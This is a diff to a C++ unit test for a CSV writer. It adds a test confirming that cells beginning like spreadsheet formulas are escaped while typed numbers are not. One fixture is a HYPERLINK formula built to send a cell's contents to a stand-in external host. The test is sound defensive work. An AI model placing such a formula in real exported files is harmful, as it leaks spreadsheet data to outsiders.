@@ -19,7 +19,7 @@ std::string ReadFile(const std::string& path) {
     return out.str();
 }
 
-using Row = std::vector<std::string>;
+using Row = std::vector<TableCell>;
 
 // The head and tail of a file titled "t".
 const std::string kHeadT =
@@ -104,6 +104,30 @@ TEST(CsvTableWriter, QuotesCommasQuotesAndLineBreaksAfterAByteOrderMark) {
               "\"a,b\",\"说\"\"好\"\"\"\r\n"
               "\"line1\nline2\",\r\n"
               "\"cr\rx\",<plain> & ok\r\n");
+}
+
+TEST(CsvTableWriter, GuardsTextsThatStartLikeAFormulaButNotTheNumbersItFormats) {
+    TempModuleFolder temp;
+    const std::string path = temp.Path() + "out.csv";
+    TableCell amount("-12.50"), count("-3"), when("2007_03_01");
+    amount.kind = CellKind::Money;
+    count.kind = CellKind::Integer;
+    when.kind = CellKind::Day;
+    {
+        CCsvTableWriter writer;
+        ASSERT_EQ(writer.Open("t", path), 1);
+        writer.WriteRow(Row{"=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "+1", "-1"});
+        writer.WriteRow(Row{"@SUM(A1)", "\tx", "\rx"});
+        writer.WriteRow(Row{"a=1", "1+1", "x-@\t"});
+        writer.WriteRow(Row{amount, count, when});
+        ASSERT_EQ(writer.Close(), 1);
+    }
+    EXPECT_EQ(ReadFile(path),
+              "\xEF\xBB\xBF"
+              "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点我\"\")\",'+1,'-1\r\n"
+              "'@SUM(A1),'\tx,\"'\rx\"\r\n"
+              "a=1,1+1,x-@\t\r\n"
+              "-12.50,-3,2007_03_01\r\n");
 }
 
 }  // namespace
